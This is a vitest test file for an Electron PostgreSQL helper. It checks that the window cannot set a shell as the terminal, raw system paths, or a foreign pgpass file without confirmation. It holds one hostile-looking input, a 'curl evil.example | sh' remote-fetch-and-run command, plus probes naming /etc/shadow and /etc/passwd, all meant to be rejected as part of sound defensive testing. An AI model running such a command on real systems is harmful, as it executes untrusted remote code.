// Paths and programs the window may set: a path only through the main process's file picker, a
// terminal only from the known list, and a pgpass file with someone else's lines only after a yes.
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { nodeFileSystem } from '../../../../electron/core/node-ports.js';
import { dispatch } from '../../../../electron/main/ipc/handlers.js';
import { startServices, type Services } from '../../../../electron/main/services.js';
import { findTlsRootsDir } from '../../../../electron/core/tls-roots.js';
import { FakeClock } from '../../../support/fakes/fake-clock.js';
import { ScriptedFileDialog } from '../../../support/fakes/file-dialog.js';

let home: string;
let services: Services | undefined;

async function start() {
  home = await mkdtemp(path.join(os.tmpdir(), 'pgentra-pickers-'));
  const dialog = new ScriptedFileDialog();
  services = await startServices({
    configDir: home,
    env: { PGENTRA_HOME: home, PGPASSFILE: path.join(home, 'pgpass') },
    fs: nodeFileSystem,
    clock: new FakeClock(),
    clipboard: { readText: async () => '', writeText: async () => undefined, clear: async () => undefined },
    notifier: { notify: () => undefined },
    browser: { open: async () => undefined },
    dialog,
    pgentraCommand: ['/usr/bin/node', '/opt/pgentra/bin/pgentra.cjs'],
    tlsRootsDir: findTlsRootsDir(import.meta.dirname),
    serveAgent: false,
    log: () => undefined,
    onSnapshot: () => undefined,
    onSignInFinished: () => undefined,
  });
  const call = (channel: string, ...args: unknown[]) => dispatch(services!.handlers, channel, args);
  const settingsInFile = async () =>
    (
      JSON.parse(await readFile(path.join(home, 'config.json'), 'utf8').catch(() => '{}')) as {
        settings?: { pgpass?: { path?: string }; pgadminPath?: string; terminal?: string[] };
      }
    ).settings ?? {};
  return { dialog, call, settingsInFile };
}

afterEach(async () => {
  await services?.stop();
  services = undefined;
  await rm(home, { recursive: true, force: true });
});

describe('settings from the window', () => {
  it('refuses a shell as the terminal and a raw path, naming the field, and changes nothing', async () => {
    const { call, settingsInFile } = await start();
    expect(await call('settings:update', { terminal: ['sh', '-c', 'curl evil.example | sh'] })).toMatchObject(
      {
        ok: false,
        code: 'invalid-argument',
        message: expect.stringMatching(/^terminal\.0: not a terminal pgentra knows/),
      },
    );
    expect(await call('settings:update', { pgpassPath: '/etc/shadow' })).toMatchObject({
      ok: false,
      message: expect.stringMatching(/^pgpassPath: /),
    });
    expect(await call('settings:update', { pgadminPath: '/bin/sh' })).toMatchObject({
      ok: false,
      message: expect.stringMatching(/^pgadminPath: /),
    });
    expect(await settingsInFile()).toEqual({});
  });

  it('takes a known terminal', async () => {
    const { call, settingsInFile } = await start();
    expect(await call('settings:update', { terminal: ['konsole'] })).toMatchObject({ ok: true });
    expect((await settingsInFile()).terminal).toEqual(['konsole']);
  });
});

describe('choosing the pgpass file in the picker', () => {
  it('sets a new file the person picked; Cancel changes nothing', async () => {
    const { dialog, call, settingsInFile } = await start();
    expect(await call('settings:choosePgpassFile')).toEqual({ ok: true, value: { outcome: 'cancelled' } });
    const file = path.join(home, 'new.pgpass');
    dialog.willChoose(file);
    const result = await call('settings:choosePgpassFile');
    expect(result).toMatchObject({ ok: true, value: { outcome: 'saved', settings: { pgpassPath: file } } });
    expect((await settingsInFile()).pgpass?.path).toBe(file);
    expect(dialog.asked.map((asked) => asked.kind)).toEqual(['save', 'save']);
  });

  it('asks before adopting a file with lines pgentra did not write, and adopts it only with the id it gave', async () => {
    const { dialog, call, settingsInFile } = await start();
    const file = path.join(home, 'theirs.pgpass');
    await writeFile(file, 'db1:5432:*:bob:secret\n\n# a comment of theirs\ndb2:5432:*:bob:other\n', {
      mode: 0o600,
    });
    dialog.willChoose(file);
    const asked = await call('settings:choosePgpassFile');
    expect(asked).toMatchObject({ ok: true, value: { outcome: 'confirm', path: file, foreignLines: 3 } });
    expect((await settingsInFile()).pgpass?.path).toBeUndefined();

    expect(await call('settings:adoptPgpassFile', 'f'.repeat(32))).toMatchObject({ ok: false });
    expect(await call('settings:adoptPgpassFile', '/etc/passwd')).toMatchObject({
      ok: false,
      code: 'invalid-argument',
    });
    const confirmId = asked.ok && (asked.value as { confirmId: string }).confirmId;
    expect(await call('settings:adoptPgpassFile', confirmId)).toMatchObject({
      ok: true,
      value: { pgpassPath: file },
    });
    expect((await settingsInFile()).pgpass?.path).toBe(file);
    // Their lines are all still there, below pgentra's block.
    expect(await readFile(file, 'utf8')).toContain('db2:5432:*:bob:other');
  });

  it('a file that already holds pgentra block is taken without asking', async () => {
    const { dialog, call } = await start();
    const file = path.join(home, 'ours.pgpass');
    await writeFile(
      file,
      '# >>> pgentra managed block - do not edit (pgentra pgpass clean removes it) >>>\n# <<< pgentra managed block <<<\ndb1:5432:*:bob:secret\n',
      { mode: 0o600 },
    );
    dialog.willChoose(file);
    expect(await call('settings:choosePgpassFile')).toMatchObject({ ok: true, value: { outcome: 'saved' } });
  });

  it('refuses a directory', async () => {
    const { dialog, call, settingsInFile } = await start();
    dialog.willChoose(home);
    expect(await call('settings:choosePgpassFile')).toMatchObject({
      ok: false,
      message: expect.stringContaining('not a regular file'),
    });
    expect((await settingsInFile()).pgpass?.path).toBeUndefined();
  });
});

describe('choosing pgAdmin in the picker', () => {
  it('sets the picked program; Cancel answers null and changes nothing', async () => {
    const { dialog, call, settingsInFile } = await start();
    expect(await call('settings:choosePgadmin')).toEqual({ ok: true, value: null });
    dialog.willChoose('/opt/pgadmin4/bin/pgadmin4');
    expect(await call('settings:choosePgadmin')).toMatchObject({
      ok: true,
      value: { pgadminPath: '/opt/pgadmin4/bin/pgadmin4' },
    });
    expect((await settingsInFile()).pgadminPath).toBe('/opt/pgadmin4/bin/pgadmin4');
    expect(dialog.asked.at(-1)).toMatchObject({ kind: 'open' });
  });
});
